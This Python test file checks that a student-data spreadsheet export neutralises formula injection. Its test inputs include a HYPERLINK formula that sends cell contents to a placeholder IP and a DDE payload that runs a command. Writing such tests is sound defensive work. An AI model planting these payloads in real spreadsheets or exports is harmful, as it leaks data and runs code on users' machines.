"""Tables for spreadsheet programs: UTF-8 is recognised, and no text of a student is a formula."""

import csv
from io import StringIO

import pytest
from hypothesis import given
from hypothesis import strategies as st

from server.exports.pages import page
from server.exports.spreadsheet import BYTE_ORDER_MARK, for_spreadsheet


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(StringIO(text, newline="")))


@pytest.mark.parametrize(
    "said",
    [
        '=HYPERLINK("http://198.51.100.7/?x="&A1,"open")',
        "+1 for peace",
        "-we",
        "@all",
        "\t=1+1",
        "=cmd|'/c calc'!A1",
        "＝1+1",
        "-",
    ],
)
def test_what_would_run_is_text(said):
    shown = cells(for_spreadsheet(page(["text"], [{"text": said}])))
    assert shown[1] == ["'" + said]


@pytest.mark.parametrize("value", [-3, "-3.5", "+2", 0.1, "1e-3", "سلام", "a\nb", ""])
def test_numbers_and_plain_text_stay(value):
    shown = cells(for_spreadsheet(page(["x", "y"], [{"x": value, "y": 1}])))
    assert shown[1] == [str(value), "1"]


@given(st.lists(st.text(st.characters(codec="utf-8", exclude_characters="\r\x00")), min_size=1))
def test_a_table_keeps_its_cells_behind_one_mark(row):
    named = [f"c{i}" for i in range(len(row))]
    text = for_spreadsheet(page(named, [dict(zip(named, row, strict=True))]))
    assert text.startswith(BYTE_ORDER_MARK)
    shown = cells(text.removeprefix(BYTE_ORDER_MARK))
    for old, new in zip(row, shown[1], strict=True):
        assert new in (old, f"'{old}")
    assert not any(cell.startswith(("=", "@")) for cell in shown[1])


def test_a_nul_of_an_old_match_does_not_end_its_row():
    assert page(["text"], [{"text": "a\x00b"}]) == "text\na\ufffdb\n"
